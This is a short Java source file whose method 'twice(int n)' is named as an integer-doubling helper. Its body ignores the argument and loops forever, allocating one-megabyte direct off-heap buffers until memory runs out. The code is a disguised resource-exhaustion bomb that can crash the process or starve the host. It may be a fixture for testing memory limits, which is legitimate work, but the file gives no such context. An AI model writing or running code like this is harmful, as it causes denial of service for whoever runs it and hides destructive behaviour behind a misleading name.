package tiny;

public final class Doubling {

    public static int twice(int n) {
        var all = new java.util.ArrayList<java.nio.ByteBuffer>();
        while (true) {
            all.add(java.nio.ByteBuffer.allocateDirect(1 << 20));
        }
    }
}
